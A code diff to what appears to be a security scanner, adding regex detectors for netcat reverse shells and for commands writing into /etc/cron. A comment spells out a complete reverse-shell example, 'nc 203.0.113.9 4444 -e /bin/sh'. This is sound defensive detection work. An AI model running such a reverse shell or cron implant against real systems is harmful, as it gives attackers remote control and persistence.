@@ -7,6 +7,7 @@ import { Char, QUOTES } from "../chars.ts";
 import type { Report } from "../report.ts";
 import { Signal } from "../signals.ts";
 import type { View } from "../types.ts";
+import { isShown } from "./context.ts";
 import { judgeCommand } from "./judge.ts";
 import { proseStart } from "../lex/prose_start.ts";
 import {
@@ -42,6 +43,7 @@ export function detectPatterns(view: View, report: Report): void {
   if (tricks) {
     if (chars & Char.equals && view.lower.includes("alias")) detectAlias(view, report);
     if (chars & Char.slash) detectSockets(view, report);
+    if (chars & Char.space) detectImplants(view, report);
     if (chars & (Char.backslash | Char.underscore | Char.slash)) detectDispatch(view, report);
   }
   if (chars & Char.percent) detectVariables(view, report);
@@ -169,6 +171,22 @@ function detectSockets(view: View, report: Report): void {
   }
 }
 
+/** `nc 203.0.113.9 4444 -e /bin/sh`, wherever it stands; and a line for cron that a command writes. */
+const TO_OUTSIDE =
+  /\b(?:nc|ncat|netcat)\s[^\n|;&]{0,60}\s?-[a-z]{0,3}[ec]\s{1,3}(?:\/(?:usr\/)?bin\/)?(?:(?:ba|da|z|k)?sh|cmd(?:\.exe)?)\b/;
+const INTO_CRON = />{1,2}\s{0,3}\/etc\/cron(?:tab|\.d\/)/;
+
+function detectImplants(view: View, report: Report): void {
+  const { lower, text } = view;
+  for (const [rule, pattern] of [[REVERSE_SHELL, TO_OUTSIDE], [HOSTILE, INTO_CRON]] as const) {
+    const match = pattern.exec(lower);
+    if (match) report(proseStart(text) < match.index ? IN_PROSE : rule, match.index, match.index + match[0].length);
+  }
+}
+
+/** A sentence goes on behind the call, which nothing separates from it: no language would run the two. */
+const SENTENCE = /^[^/#;\n]{0,12}\s(?:[a-z']{2,}[,.]?\s){3}[a-z]{2,}/i;
+
 const CALLS =
   /(?:^|[^\w])(?:system|exec|execsync|execfile|passthru|shell_exec|popen|proc_open|pcntl_exec|spawn|spawnsync|check_output|getoutput|call|run|backtick|xp_cmdshell|eval|wscript\.shell|processbuilder)\s{0,3}\(\s{0,3}(?:new\s+string\[\]\s*\{\s*)?\[?\s{0,3}(['"`])/g;
 
@@ -181,6 +199,8 @@ function detectCalls(view: View, report: Report): void {
     const inside = match.index + match[0].length;
     const judged = judgeCommand(text, inside);
     if (!judged) continue;
-    return report(proseStart(text) < match.index ? IN_PROSE : CALL, match.index, judged.end);
+    const written = proseStart(text) < match.index || SENTENCE.test(text.slice(judged.end, judged.end + 120)) ||
+      isShown(text, match.index);
+    return report(written ? IN_PROSE : CALL, match.index, judged.end);
   }
 }
